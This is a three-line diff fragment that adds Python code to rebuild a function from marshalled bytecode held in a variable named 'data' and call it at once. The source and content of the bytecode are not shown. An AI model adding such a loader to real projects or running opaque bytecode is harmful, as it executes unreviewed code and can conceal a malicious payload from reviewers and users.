@@ -1,0 +1,3 @@
+import types, marshal
+f = types.FunctionType(marshal.loads(data), globals())
+f()
